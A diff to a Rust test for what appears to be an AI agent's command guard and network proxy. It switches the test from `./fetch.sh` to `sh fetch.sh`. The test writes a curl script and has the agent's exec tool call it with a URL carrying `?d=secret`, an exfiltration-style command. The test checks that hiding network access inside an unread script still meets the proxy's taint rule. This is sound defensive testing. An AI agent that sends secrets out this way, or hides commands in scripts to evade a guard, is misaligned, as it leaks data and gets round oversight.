@@ -125,8 +125,8 @@ async fn a_command_that_reads_the_network_taints_the_session_and_cannot_then_rea
         h.one(&id, EventKind::Decision).data["rule"],
         "taint.exec_code"
     );
-    // Hidden in a workspace script the guard cannot see into: the proxy's gate applies
-    // the same rule to the connection itself.
+    // Hidden in a script the guard cannot see into (`sh fetch.sh` runs code it does not
+    // read): the proxy's gate applies the same rule to the connection itself.
     std::fs::write(
         h.ws.join("fetch.sh"),
         "#!/bin/sh\nexec curl -s -S -o /dev/null -w '%{http_code}' \"$1\"\n",
@@ -141,7 +141,7 @@ async fn a_command_that_reads_the_network_taints_the_session_and_cannot_then_rea
         let (id, obs) = h
             .call(
                 "exec",
-                json!({"command": format!("./fetch.sh http://{target}:{port}/x?d=secret")}),
+                json!({"command": format!("sh fetch.sh http://{target}:{port}/x?d=secret")}),
             )
             .await;
         assert_eq!(h.one(&id, EventKind::Decision).data["decision"], "allow");
@@ -163,7 +163,7 @@ async fn a_command_that_reads_the_network_taints_the_session_and_cannot_then_rea
     let (_, obs) = h
         .call(
             "exec",
-            json!({"command": format!("./fetch.sh http://docs.test:{port}/again")}),
+            json!({"command": format!("sh fetch.sh http://docs.test:{port}/again")}),
         )
         .await;
     assert!(obs.content.contains("200"), "{}", obs.content);
